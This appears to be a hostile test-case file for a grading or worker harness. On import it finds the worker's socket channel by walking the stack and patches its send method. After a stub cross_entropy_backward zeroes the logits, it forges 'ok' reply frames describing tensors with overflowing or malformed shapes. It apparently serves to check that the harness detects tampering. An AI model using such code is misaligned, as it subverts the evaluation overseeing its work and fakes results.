# /// attack
# rows = []
# tries = "Shapes whose products overflow, with no bytes or too few."
# kind = "hostile"
# verdicts = ["broke protocol", "failed"]
# ///
import struct
import sys

import msgspec
import torch

FORGED = [False]


def channel_of_the_worker():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(value, "sock") and hasattr(value, "send"):
                return value
        frame = frame.f_back
    return None


def pack(value):
    return msgspec.msgpack.encode(value)


def frame_of(structure, blob=b""):
    return struct.pack("<II", len(structure), len(blob)) + structure + blob


def take_over():
    channel = channel_of_the_worker()
    honest = type(channel).send

    def send(self, buffers):
        if not FORGED[0]:
            return honest(self, buffers)
        FORGED[0] = False
        nonce = msgspec.msgpack.decode(bytes(buffers[1]))[0]
        self.sock.sendall(forge(nonce, self))

    type(channel).send = send


take_over()


def cross_entropy_backward(logits, targets):
    FORGED[0] = True
    return logits.zero_()


SHAPES = [[0, 2**47, 2**47], [2**31, 2**33], [0] * 32, [1] * 32, [-1], [True], [2**47, 0], [1] * 33]


def forge(nonce, channel):
    shape = SHAPES[nonce % len(SHAPES)]
    size = 8 if set(shape) == {1} else 0
    return frame_of(pack([nonce, "ok", ["T", "float64", shape, 0, size, 0, "cpu"], None]), bytes(size))
